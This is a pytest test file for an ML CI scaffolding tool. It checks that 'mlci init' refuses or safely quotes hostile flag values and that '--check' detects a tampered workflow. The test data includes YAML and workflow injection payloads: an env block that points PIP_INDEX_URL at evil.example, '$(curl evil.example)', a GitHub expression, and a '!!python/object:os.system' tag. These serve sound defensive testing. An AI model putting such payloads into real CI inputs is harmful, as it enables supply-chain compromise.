"""Hostile answers cannot change the structure of a generated file (issue: YAML injection).

Every flag of `mlci init` gets values that would break a naive template (line
breaks ending a comment, YAML syntax, GitHub expressions, control characters).
Each run either refuses with exit 2 naming the flag, writing nothing, or writes
files whose parsed structure has exactly the keys of a benign run, and that
zizmor finds nothing in. `mlci init --check` reports a tampered workflow by key.
"""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from mlci import scaffold
from mlci.cli import main
from tests.act.harness import VENV_BIN, git_repo
from tests.scaffold.shapes import penguins

FLAGS = (
    "--data",
    "--current",
    "--eval-data",
    "--target",
    "--id-columns",
    "--model",
    "--train-command",
    "--test-command",
    "--install-command",
    "--monitor-schedule",
    "--monitor-data-command",
    "--retrain-schedule",
    "--python",
    "--default-branch",
    "--runs-on",
    "--action-ref",
)
HOSTILE = (
    "x\nenv:\n  PIP_INDEX_URL: https://evil.example/simple",
    "x\r\non: push",
    "x\u2028jobs: {}",
    "x\x00y",
    "x\x1b[31m",
    "${{ github.event.pull_request.title }}",
    "x # not a comment",
    "'single'",
    '"double"',
    "{a: b}",
    "[a, b]",
    "*alias",
    "&anchor x",
    "!!python/object:os.system x",
    "key: value",
    "- item",
    "`backtick`",
    "$(curl evil.example)",
    "3.12\n",
    "main\n",
    "0 3 * * 1\n",
)
FILES = ("mlci.yaml", *scaffold.WORKFLOWS, scaffold.MONITOR_WORKFLOW)
#: Every optional workflow and step on, so a hostile answer can only replace a value
#: (argparse keeps the last of a repeated flag: the hostile one comes last).
BASE_ARGS = ("--yes", "--monitor", "--monitor-data-command=cp logs.csv data/current.csv")


def _structure(root: Path) -> dict[str, str]:
    return {rel: (root / rel).read_text(encoding="utf-8") for rel in FILES}


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("inj") / "base"
    return git_repo(
        root,
        {
            # Every optional answer present, so a hostile one can only replace a value.
            "data/train.csv": penguins(40),
            "data/eval.csv": penguins(20, seed=1),
            "data/current.csv": penguins(20, seed=2),
            "model.skops": b"not a model",
            "requirements.txt": "scikit-learn\n",
            "train.py": "print('train')\n",
            "tests/test_model.py": "def test_ok():\n    assert True\n",
            "README.md": "x\n",
        },
    )


@pytest.mark.slow
def test_hostile_answers_never_add_structure(
    base: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    benign = tmp_path / "benign"
    shutil.copytree(base, benign)
    assert main(["init", "-C", str(benign), *BASE_ARGS]) == 0
    expected = _structure(benign)
    accepted = tmp_path / "accepted"
    refused = written = 0
    for flag in FLAGS:
        for value in HOSTILE:
            work = tmp_path / "work"
            shutil.rmtree(work, ignore_errors=True)
            shutil.copytree(base, work)
            capsys.readouterr()
            code = main(["init", "-C", str(work), *BASE_ARGS, f"{flag}={value}"])
            captured = capsys.readouterr()
            case = f"{flag} {value!r}"
            assert code in (0, 2), case
            if code == 2:
                refused += 1
                assert "mlci: error: " in captured.err, case
                assert "Traceback" not in captured.err, case
                assert not (work / "mlci.yaml").exists(), case
                assert not (work / ".github").exists(), case
                continue
            written += 1
            got = _structure(work)
            for rel in FILES:
                changes = scaffold.structure_changes(rel, got[rel], expected[rel])
                # A data path that does not exist leaves out what its columns would
                # have given (target, ids, the chance-level gate); nothing else may move.
                extra = [
                    c
                    for c in changes
                    if "added" in c or ("missing" in c and rel != "mlci.yaml") or "items" in c
                ]
                assert not extra, (case, rel, extra)
            dest = accepted / f"case{written}"
            for rel in (*scaffold.WORKFLOWS, scaffold.MONITOR_WORKFLOW):
                (dest / rel).parent.mkdir(parents=True, exist_ok=True)
                shutil.copy(work / rel, dest / rel)
    # Line breaks, control characters and expressions are refused everywhere ...
    assert refused >= len(FLAGS) * 6
    # ... while YAML-looking text that a path or a command may hold is written, quoted.
    assert written >= 20
    done = subprocess.run(
        [
            str(VENV_BIN / "zizmor"),
            "--offline",
            "--no-progress",
            "--format",
            "plain",
            "--color",
            "never",
            *[str(p / ".github" / "workflows") for p in sorted(accepted.iterdir())],
        ],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    assert "No findings to report" in done.stdout


@pytest.mark.parametrize(
    ("flag", "value", "message"),
    [
        (
            "--install-command",
            "pip install x\nenv:",
            "--install-command 'pip install x\\nenv:': contains a line break",
        ),
        ("--python", "3.12\n", "--python '3.12\\n': contains a line break"),
        ("--default-branch", "main\n", "--default-branch 'main\\n': contains a line break"),
        ("--default-branch", "-x", "--default-branch '-x': not a branch name"),
        ("--python", "3.12.", "--python '3.12.': expected a version such as 3.12"),
        ("--train-command", "python t.py ${{ github.sha }}", "--train-command: contains '${{'"),
    ],
)
def test_each_refusal_names_the_flag(
    base: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    flag: str,
    value: str,
    message: str,
) -> None:
    work = tmp_path / "w"
    shutil.copytree(base, work)
    assert main(["init", "-C", str(work), "--yes", f"{flag}={value}"]) == 2
    assert message in capsys.readouterr().err


def test_check_reports_a_tampered_workflow_by_key(
    base: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    work = tmp_path / "w"
    shutil.copytree(base, work)
    assert main(["init", "-C", str(work), "--yes"]) == 0
    deploy = work / ".github/workflows/mlci-deploy.yml"
    text = deploy.read_text(encoding="utf-8")
    # The attack of the issue: top-level keys smuggled in after the header comment.
    tampered = text.replace(
        "name: mlci deploy\n",
        "name: mlci deploy\nenv:\n  PIP_INDEX_URL: https://evil.example/simple\n",
    )
    deploy.write_text(tampered, encoding="utf-8")
    capsys.readouterr()
    assert main(["init", "-C", str(work), "--check"]) == 1
    out = capsys.readouterr().out
    assert (
        "stale: .github/workflows/mlci-deploy.yml\n  env: added (mlci does not generate it)\n"
        in out
    )
    # A recorded option that fails the checks is refused, not reproduced.
    pr = work / ".github/workflows/mlci-pr.yml"
    header = pr.read_text(encoding="utf-8")
    assert "`mlci init --python 3.11 " in header
    pr.write_text(header.replace("--python 3.11 ", "--python '3.12 x' "), encoding="utf-8")
    assert main(["init", "-C", str(work), "--check"]) == 2
    assert (
        "--python (header of .github/workflows/mlci-pr.yml) '3.12 x': expected a version"
        in capsys.readouterr().err
    )
